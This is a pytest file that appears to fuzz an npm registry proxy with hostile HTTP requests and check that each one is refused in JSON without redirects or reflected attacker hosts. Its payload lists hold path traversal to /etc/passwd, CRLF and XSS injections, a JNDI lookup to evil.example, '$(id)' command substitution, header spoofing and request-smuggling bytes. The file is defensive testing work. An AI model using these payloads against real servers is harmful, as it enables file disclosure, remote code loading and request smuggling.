"""What attackers and broken software send, byte by byte, on a raw socket.

Whatever comes, the answer is one of a few statuses, in JSON, without a redirect and without an
address that the sender has made up; no story is asked for what cannot be a package.
"""

from __future__ import annotations

import itertools
import json
import logging
from collections.abc import AsyncIterator

import pytest

from tests.fakes.rawhttp import RawReply, get, send
from tests.fakes.stories import Bytes, Stories, serve
from tests.fakes.uplink import FakeUplink
from tests.registry import Registry

ALLOWED = {400, 401, 404, 405, 413, 414, 431}
EVIL = "evil.example"

CLIMBS = [
    "..",
    "../..",
    "../../../../etc/passwd",
    "..%2f",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e%5c%2e%2e%5cwin.ini",
    "..%5c..%5cwin.ini",
    "..\\..\\win.ini",
    "%252e%252e%252f",
    "..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae%c0%af",
    "%e0%80%ae%e0%80%ae%e0%80%af",
    "%c0%afetc%c0%afpasswd",
    "..;/",
    "..%00/",
    "..%0d%0a",
    "....//....//etc/passwd",
    "%2f%2fetc%2fpasswd",
    "%2Fetc%2Fpasswd",
    "/etc/passwd",
    "C:%5cWindows",
    "file:%2f%2f%2fetc%2fpasswd",
]
ODD = [
    "%00",
    "a%00b",
    "a%00.tgz",
    "%0a",
    "%0d%0aX-Evil:%201",
    "a%0d%0aLocation:%20http://evil.example",
    "%ff",
    "%fe%ff",
    "%ed%a0%80",
    "%ed%b0%80",
    "%f5%80%80%80",
    "%f8%88%80%80%80",
    "%80",
    "%c3",
    "%c3%28",
    "%e2%82",
    "%",
    "%%",
    "%2",
    "%zz",
    "%u0041",
    "%25",
    "%252f",
    "@s%252fn",
    "%7f",
    "%1b[31m",
    "<script>alert(1)</script>",
    "%3cscript%3e",
    "'%22--",
    "%24%7bjndi:ldap:%2f%2fevil.example%7d",
    "$(id)",
    "a*b?c",
    "a%3fb",
    "a%23b",
    "[a-z]",
    "{a,b}",
    "a%7cb",
    "a%20b",
    "%20",
    "%e2%80%ae",
    "%ef%bb%bf",
    "node_modules",
    "favicon.ico",
    "robots.txt",
    ".git",
    ".git%2fconfig",
    ".env",
    ".npmrc",
    "..npmrc",
    "@",
    "@%2f",
    "@/",
    "@/x",
    "@s",
    "@s%2f",
    "@s%2f.x",
    "@.s%2fx",
    "@s%2fa%2fb",
    "@s%2f@t%2fx",
    "@@s%2fx",
    "a" * 1000,
    "%61" * 1000,
    "a" * 7500,
]
PLACES = [
    "/{}",
    "/{}/",
    "//{}",
    "/lodash/{}/x",
    "/lodash/-/{}",
    "/lodash/download/{}",
    "/@scope/{}/-/x.tgz",
    "/@scope%2f{}",
    "/@{}/name",
    "/-/{}",
    "/-/package/{}/dist-tags",
    "/-/npm/v1/attestations/{}",
]
WHOLE = [
    "/-",
    "/-/",
    "/-/nope",
    "/-/all",
    "/-/all/since?stale=update_after&startkey=1",
    "/-/v1",
    "/-/v1/login",
    "/-/v1/search/more",
    "/-/npm/v1",
    "/-/npm/v1/user",
    "/-/npm/v1/tokens",
    "/-/user/org.couchdb.user:x",
    "/-/package/lodash",
    "/-/package/lodash/access",
    "/-/ping/x",
    "/-/../lodash",
    "/-/%2e%2e/lodash",
    "/lodash/1/2/3/4",
    "/a/b/c/d/e/f/g",
    "/downloads/point/x/y/z/w",
    "/%2d%2fping",
    "/" + "a/" * 3000,
    "/" + "%2f" * 2000,
    "/" + "/" * 4000 + "@",
    "/lodash/-/" + "a" * 7000 + ".tgz",
    "/lodash/" + "9" * 7000,
    "/?" + "x=" * 3000,
]
TARGETS = [place.format(text) for place, text in itertools.product(PLACES, CLIMBS + ODD)] + WHOLE
# Some of the corpus is harmless in some place: a tag called so, the page at the root.
HARMLESS = {200, 401}


@pytest.fixture
def stories() -> Stories:
    return Stories(documents={"lodash": b'{"tarball":"{base_url}/x"}'})


@pytest.fixture
async def port(stories: Stories) -> AsyncIterator[int]:
    async with serve(stories) as opened:
        yield opened


def check(reply: RawReply | None, what: str, allowed: set[int] = ALLOWED) -> None:
    """The invariants of every answer to hostile input."""
    assert reply is not None, f"no answer: {what[:200]}"
    assert reply.status in allowed, f"{reply.status}: {what[:200]}"
    assert reply.is_complete
    assert "location" not in reply.headers
    assert "x-evil" not in reply.headers
    assert "://" + EVIL not in reply.body.decode()
    if reply.status >= 400 and reply.body:
        assert reply.headers["content-type"] == "application/json"
        assert {"error", "message", "code"} <= json.loads(reply.body).keys()


async def test_the_corpus_is_answered_and_asks_nobody(port: int, stories: Stories) -> None:
    """Over a thousand hostile targets are refused in JSON, none with a 5xx or a redirect."""
    assert len(TARGETS) > 1000
    for target in TARGETS:
        stories.calls.clear()
        reply = await send(port, get(target))
        check(reply, target, ALLOWED | HARMLESS)
        for _, name, *_ in stories.calls:
            assert not set(str(name)) & set("\\%\x00\r\n"), target
            assert ".." not in str(name).split("/"), target


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE", "PATCH", "OPTIONS", "TRACE", "PURGE"])
async def test_no_other_method_reaches_a_story(port: int, stories: Stories, method: str) -> None:
    """The corpus with any method but GET is refused, and no story that reads is asked."""
    for target in TARGETS[::17] + WHOLE:
        reply = await send(port, get(target, method=method))
        check(reply, f"{method} {target}")
    assert stories.calls == []


async def test_an_unknown_method_is_refused(port: int) -> None:
    """A method nobody has heard of, and one that is no token, give a refusal."""
    for method in ("BREW", "G\x00T", "get", "GET\t", '"GET"', "M" * 5000):
        check(await send(port, get("/lodash", method=method)), method)


async def test_connect_and_asterisk_are_refused(port: int, stories: Stories) -> None:
    """Forms of a target that are for proxies and servers name nothing here."""
    for request in (
        get(f"{EVIL}:443", method="CONNECT"),
        get("/", method="CONNECT"),
        get("*", method="OPTIONS"),
        get("*"),
    ):
        check(await send(port, request), repr(request))
    assert stories.calls == []


HOSTS = [
    "",
    "a:99999",
    "a:0",
    "a:-1",
    "a:x",
    '"><script>alert(1)</script>',
    "evil.example/path",
    "evil.example#",
    "evil.example?",
    "user@evil.example",
    "evil.example\\@good",
    "evil .example",
    "[::1",
    "[evil.example]",
    "::1",
    "e" * 300,
    "evil.example:80:80",
    "évil.example",
    "evil.example,good.example",
    "\tevil.example\x0b",
    "${jndi:ldap://evil.example}",
]


@pytest.mark.parametrize("host", HOSTS)
async def test_an_unsound_host_never_reaches_a_document(port: int, host: str) -> None:
    """A Host that cannot be one is refused or replaced, and never repeated."""
    reply = await send(port, get("/lodash", host=host))

    check(reply, host, ALLOWED | {200})
    assert reply is not None
    assert EVIL.encode() not in reply.body
    if reply.status == 200:
        assert json.loads(reply.body) == {"tarball": f"http://127.0.0.1:{port}/x"}


async def test_an_absolute_target_does_not_change_links(port: int) -> None:
    """The authority of an absolute target is passed over; the Host header counts."""
    for target in (
        f"http://{EVIL}/lodash",
        f"https://{EVIL}:8443/lodash",
        f"http://user:secret@{EVIL}/lodash",
    ):
        reply = await send(port, get(target, host="npm.corp.example"))
        check(reply, target, {200})
        assert reply is not None
        assert json.loads(reply.body) == {"tarball": "http://npm.corp.example/x"}


async def test_unparsable_absolute_targets_are_refused(port: int) -> None:
    """An absolute target whose authority makes no sense is refused without repeating it."""
    for target in (
        f"http://{EVIL}:99999/x",
        "http://[::1/x",
        "http:///x",
        f"//{EVIL}:99999/%2e%2e",
        "x:y",
    ):
        check(await send(port, get(target)), target, ALLOWED)


async def test_forwarding_headers_of_strangers_do_not_change_links(port: int) -> None:
    """No header that only a proxy may send moves a link when anybody else sends it."""
    reply = await send(
        port,
        get(
            "/lodash",
            f"X-Forwarded-Host: {EVIL}",
            "X-Forwarded-Proto: https",
            "X-Forwarded-Prefix: /evil",
            f"Forwarded: host={EVIL};proto=https",
            f"X-Original-URL: http://{EVIL}/",
            "X-Rewrite-URL: /-/metrics",
            f"X-Host: {EVIL}",
            "X-Request-Id: forged",
            host="npm.corp.example",
        ),
    )

    check(reply, "forwarded", {200})
    assert reply is not None
    assert json.loads(reply.body) == {"tarball": "http://npm.corp.example/x"}
    assert reply.headers["x-request-id"] != "forged"


MALFORMED = {
    "two hosts": b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "length twice": b"POST / HTTP/1.1\r\nHost: a\r\n"
    b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "length and chunked": b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "xchunked": b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "length with sign": b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +1\r\n\r\na",
    "space before colon": b"GET / HTTP/1.1\r\nHost : a\r\n\r\n",
    "folded": b"GET / HTTP/1.1\r\nHost: a\r\nX: b\r\n c\r\n\r\n",
    "NUL in a header": b"GET / HTTP/1.1\r\nHost: a\r\nX: b\x00c\r\n\r\n",
    "raw bytes in the path": b"GET /\xff\xfe HTTP/1.1\r\nHost: a\r\n\r\n",
    "UTF-8 in the path": "GET /é HTTP/1.1\r\nHost: a\r\n\r\n".encode(),
    "space in the path": b"GET /a b HTTP/1.1\r\nHost: a\r\n\r\n",
    "no version": b"GET /lodash\r\n\r\n",
    "HTTP/0.9": b"GET /lodash HTTP/0.9\r\nHost: a\r\n\r\n",
    "HTTP/2.0": b"GET /lodash HTTP/2.0\r\nHost: a\r\n\r\n",
    "HTTP/9.9": b"GET /lodash HTTP/9.9\r\nHost: a\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 50 + b"\r\n\r\n",
    "header of 17 KiB": b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 17_000 + b"\r\n\r\n",
    "target of 17 KiB": b"GET /" + b"a" * 17_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    "300 headers": b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 300 + b"\r\n",
}


@pytest.mark.parametrize("name", MALFORMED)
async def test_what_is_no_sound_request_is_refused(
    port: int, stories: Stories, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Requests that two parsers may read differently are refused, quietly, in our words."""
    caplog.set_level(logging.WARNING)

    reply = await send(port, MALFORMED[name])

    assert reply is not None
    assert reply.status in {400, 431}
    assert stories.calls == []
    assert reply.headers["server"] == "packhouse"
    assert not [record for record in caplog.records if record.exc_info]


async def test_long_but_sane_requests_are_answered(port: int) -> None:
    """A command line in a header (npm 6) and a long address are fine up to 12 KiB."""
    reply = await send(port, get("/lodash?" + "a" * 12_000, "Referer: " + "install " * 1_500))

    check(reply, "long", {200})


async def test_an_expectation_is_met_or_passed_over(port: int) -> None:
    """A client that waits for 100 gets it; one that expects anything else gets its answer."""
    plain = await send(port, get("/lodash", "Expect: miracles"))
    waiting = await send(port, get("/lodash", "Expect: 100-continue"))

    check(plain, "miracles", {200})
    assert waiting is not None
    assert waiting.status == 100


async def test_http_1_0_is_answered_without_a_host(port: int) -> None:
    """A request of 1996 gets the document with our own address in it."""
    reply = await send(port, b"GET /lodash HTTP/1.0\r\n\r\n")

    check(reply, "HTTP/1.0", {200})
    assert reply is not None
    assert json.loads(reply.body) == {"tarball": f"http://127.0.0.1:{port}/x"}


async def test_pipelined_requests_are_answered_in_order(port: int) -> None:
    """Requests sent at once are each answered, the bad one among them too."""
    requests = [get(target).replace(b"Connection: close\r\n", b"") for target in ("/lodash", "/..")]

    reply = await send(port, requests[0] + requests[1] + get("/lodash/latest"))

    check(reply, "first of three", {200})


async def test_a_tarball_name_is_asked_for_as_it_was_parsed(port: int, stories: Stories) -> None:
    """What reaches a story is the parsed name, whatever the spelling was."""
    stories.tarballs["name-1.0.0.tgz"] = Bytes(b"x")
    for target in (
        "/@scope/name/-/name-1.0.0.tgz",
        "/%40scope%2Fname/-/%40scope%2fname-1.0.0.tgz",
        "/@scope/name/download/@scope/name-1.0.0.tgz?x",
    ):
        reply = await send(port, get(target))
        check(reply, target, {200})
    assert {call[:3] for call in stories.calls} == {("open", "@scope/name", "name-1.0.0.tgz")}


async def test_the_whole_registry_refuses_the_corpus(
    registry: Registry, uplink: FakeUplink
) -> None:
    """Put together as it is run, the registry answers the corpus alike and asks no such thing."""
    port = int(registry.url.rpartition(":")[2])

    for target in [target for target in TARGETS if len(target) < 4000][::3]:
        check(await send(port, get(target)), target, ALLOWED | HARMLESS)

    for seen in uplink.requests:
        assert not set(seen.decoded_path) & set("\\\x00\r\n%"), seen
        assert not {".", ".."} & set(seen.decoded_path.split("/")), seen
